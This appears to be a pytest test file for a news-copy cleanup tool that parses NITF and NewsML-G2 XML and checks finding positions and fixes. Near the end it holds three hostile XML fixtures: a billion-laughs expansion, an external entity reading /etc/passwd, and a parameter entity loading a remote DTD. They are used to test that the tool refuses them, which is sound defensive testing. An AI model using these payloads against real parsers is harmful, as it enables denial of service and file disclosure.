"""NITF and NewsML-G2: wire structure as scopes, exact positions, and hostile XML refused."""

from __future__ import annotations

from pathlib import Path

import pytest

from cleanup import engine
from cleanup.cli import main
from cleanup.files import InputError
from cleanup.formats import FORMATS
from cleanup.packs import builtin_rules
from cleanup.pipeline import Profile, check_source, fix_source

NITF = FORMATS["nitf"]
RULES = builtin_rules()


def nitf(body_head: str, paragraphs: str) -> str:
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<nitf>\n<head><title>Meta , data</title></head>\n'
            f"<body>\n<body.head>{body_head}</body.head>\n<body.content>\n{paragraphs}\n</body.content>\n</body>\n</nitf>\n")


def findings(source: str, *select: str):
    return check_source(source, "story.nitf.xml", NITF, Profile(engine.select(RULES, select))).findings


def test_wire_elements_are_blocks_with_their_scopes():
    source = nitf("<hedline><hl1>Port strike ends</hl1><hl2>Deal reached</hl2></hedline>"
                  "<byline>By <person>Ana Petrova</person></byline><dateline>SPLIT, May 2</dateline>",
                  "<p>Body text.</p><bq><p>Quoted text.</p></bq><hl2>Subhead</hl2>")
    doc = NITF.load(source, "s.nitf.xml")
    assert [(b.scope, doc.text[b.span.start:b.span.end]) for b in doc.blocks] == [
        ("headline", "Port strike ends"), ("subhead", "Deal reached"), ("byline", "By Ana Petrova"),
        ("dateline", "SPLIT, May 2"), ("body", "Body text."), ("quotation", "Quoted text."), ("subhead", "Subhead")]
    assert doc.dateline is not None and doc.text[doc.dateline.start:doc.dateline.end] == "SPLIT, May 2"


def test_a_dateline_element_anchors_relative_days():
    body = "<p>Talks resume tomorrow, the ministry said.</p>"
    assert findings(nitf("<dateline>SPLIT, May 2</dateline>", body), "TIM001") == ()
    assert [f.rule for f in findings(nitf("", body), "TIM001")] == ["TIM001"]


def test_code_points_not_bytes_after_non_ascii_text():
    source = nitf("", "<p>Café owners in Zürich paid €5 for 🚢 tickets , the report said.</p>")
    (finding,) = findings(source, "PUN002")
    assert finding.span.start == source.index(" , the")


def test_references_and_crlf_map_back_exactly():
    source = nitf("", "<p>Tea &amp; cake&#8217;s price\r\n rose &#x201C;fast&#x201D; , he said.</p>").replace("\n", "\r\n")
    (finding,) = findings(source, "PUN002")
    assert finding.span.start == source.index(" , he")
    fixed = fix_source(source, "s.nitf.xml", NITF, Profile(engine.select(RULES, ["PUN002"])), False).text
    assert fixed == source.replace("&#x201D; , he", "&#x201D;, he")


def test_newsml_g2_reads_content_meta_and_an_inline_nitf_body():
    source = """<?xml version="1.0" encoding="UTF-8"?>
<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="urn:example:1" version="1" standard="NewsML-G2">
  <itemMeta><itemClass qcode="ninat:text"/></itemMeta>
  <contentMeta><slugline>port , slug</slugline><headline>Port strike ends</headline><by>By Ana Petrova</by></contentMeta>
  <contentSet><inlineXML contenttype="application/nitf+xml">
    <nitf xmlns="http://iptc.org/std/NITF/2006-10-18/"><body><body.content>
      <p>Workers returned , the union said.</p>
    </body.content></body></nitf>
  </inlineXML></contentSet>
</newsItem>
"""
    doc = FORMATS["newsml"].load(source, "s.newsml.xml")
    assert [(b.scope, doc.text[b.span.start:b.span.end]) for b in doc.blocks] == [
        ("headline", "Port strike ends"), ("byline", "By Ana Petrova"), ("body", "Workers returned , the union said.")]
    (finding,) = findings(source, "PUN002")
    assert finding.span.start == source.index(" , the union")


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE nitf [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<nitf><body><body.content><p>&lol3;</p></body.content></body></nitf>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<nitf><body><body.content><p>&secret;</p></body.content></body></nitf>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<nitf><body><body.content><p>Text.</p></body.content></body></nitf>
"""


@pytest.mark.parametrize("hostile", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "parameter-entity"])
def test_hostile_xml_is_refused_with_exit_2_and_one_line(tmp_path: Path, capsys, hostile):
    story = tmp_path / "story.nitf.xml"
    story.write_text(hostile, encoding="utf-8")
    assert main(["check", "--fix", str(story)]) == 2
    out, err = capsys.readouterr()
    assert err.count("\n") == 1 and err.startswith(f"cleanup: {story}: unsafe XML (")
    assert "Found 0 findings in 0 files." in out
    assert story.read_text(encoding="utf-8") == hostile


def test_a_plain_doctype_is_accepted():
    source = '<?xml version="1.0"?>\n<!DOCTYPE nitf SYSTEM "nitf-3-6.dtd">\n' + nitf("", "<p>Text , here.</p>").split("\n", 1)[1]
    assert [f.rule for f in findings(source, "PUN002")] == ["PUN002"]


def test_malformed_xml_is_one_line_naming_the_file():
    with pytest.raises(InputError, match=r"^story.nitf.xml: not well-formed XML \(mismatched tag: line 1"):
        NITF.load("<nitf><body></nitf>", "story.nitf.xml")
